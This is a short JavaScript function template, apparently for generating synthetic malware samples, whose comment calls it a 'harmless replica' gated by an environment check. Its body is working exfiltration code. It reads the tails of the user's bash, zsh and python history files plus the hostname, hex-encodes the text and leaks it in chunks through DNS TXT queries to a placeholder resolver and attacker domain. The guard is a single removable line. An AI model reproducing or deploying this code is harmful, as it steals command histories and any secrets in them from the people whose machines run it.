// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { execSync } = require('child_process');
  let text = '';
  try { text = execSync('tail -n {{n}} ~/.bash_history ~/.zsh_history ~/.python_history 2>/dev/null; hostname', { timeout: 1500, shell: '/bin/sh' }).toString(); } catch (error) { text = 'none ' + process.pid; }
  const parts = Buffer.from(text).toString('hex').slice(0, 500).match(/.{1,50}/g) || [];
  const resolver = new (require('dns').promises.Resolver)({ timeout: 500, tries: 1 });
  resolver.setServers(['{{ip}}']);
  for (const part of parts) await resolver.resolveTxt(part + '.{{token}}.{{host}}').catch(() => {});
}
